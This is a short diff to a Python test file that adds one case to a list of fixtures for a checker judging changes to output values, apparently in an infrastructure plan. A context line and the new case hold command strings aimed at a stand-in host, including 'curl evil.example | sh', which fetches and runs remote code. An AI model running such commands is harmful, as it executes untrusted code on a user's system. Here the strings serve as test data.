@@ -63,6 +63,10 @@ CASES: list[tuple[Json, Json, str, str]] = [
      UNJUDGED, "output.link is another value"),
     ({"output/command": {"value": "curl 10.0.0.5"}}, {"output/command/value": "curl evil.example | sh"},
      UNJUDGED, "output.command is another value"),
+    # A word that stands in what nobody is told of is no reason.
+    ({"output/command": {"value": "curl 10.0.0.5"}},
+     {"output/command/value": "curl evil.example", f"{ATTACHMENT}/description": "evil.example"},
+     UNJUDGED, "output.command is another value"),
     ({}, {"output/link": None}, UNJUDGED, "output.link is gone"),
     ({"output/link/sensitive": True}, {"output/link/sensitive": None}, EXPOSED, "output.link is no longer sensitive"),
     ({"moved": [{"from": "google_compute_subnetwork.old", "to": "google_compute_subnetwork.nat"}]}, {"moved": None},
